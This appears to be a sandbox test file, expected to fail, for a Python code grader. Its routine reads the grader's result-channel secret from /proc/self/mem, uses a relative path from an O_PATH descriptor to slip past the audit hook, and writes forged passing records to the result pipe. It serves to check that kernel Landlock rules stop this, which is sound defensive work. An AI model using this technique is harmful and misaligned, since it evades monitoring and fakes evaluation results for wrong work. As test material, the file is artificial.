# expect: !pass
# Reads the result channel's secret out of its own memory through
# /proc/self/mem, reached relative to an O_PATH fd of "/" so that no path
# the audit hook sees names /proc (the kernel's Landlock rules must stop
# it), then forges a passing run for this wrong answer.
import os, re, stat, json

def append_to(x, lst=[]):
    lst.append(x)
    return lst

def opener():
    root = os.open("/", os.O_PATH | os.O_DIRECTORY)
    return lambda rel, flags=os.O_RDONLY: os.open(rel, flags, dir_fd=root)

def regions(op):
    with os.fdopen(op("proc/self/maps")) as f:
        lines = f.read().splitlines()
    out, keep = [], False
    for ln in lines:
        parts = ln.split()
        lo, hi = (int(v, 16) for v in parts[0].split("-"))
        path = parts[5] if len(parts) > 5 else ""
        if path.endswith("pydrill"):
            keep = True
        elif path:
            keep = False
        if keep and parts[1].startswith("rw"):
            out.append((lo, hi))
    return out

def forge():
    op = opener()
    fd = op("proc/self/mem")
    secrets = []
    for lo, hi in regions(op):
        try:
            data = os.pread(fd, hi - lo, lo)
        except OSError:
            continue
        secrets += re.findall(rb"(?<![0-9a-f])([0-9a-f]{32})\x00", data)
    vals = [{"l": [{"i": "1"}]}, {"l": [{"i": "2"}]}, {"l": [{"i": "1"}, {"i": "3"}]}]
    recs = [{"t": "item", "i": i, "k": "value", "v": v, "out": ""} for i, v in enumerate(vals)]
    recs.append({"t": "done", "out": "", "err": ""})
    for s in dict.fromkeys(secrets):
        for fdn in range(230, 256):
            try:
                if not stat.S_ISFIFO(os.fstat(fdn).st_mode):
                    continue
                for r in recs:
                    j = json.dumps(r).encode()
                    os.write(fdn, s + b" %d\n" % (len(j) + 1) + j + b"\n")
                os._exit(0)
            except OSError:
                pass

try:
    forge()
except Exception:
    pass
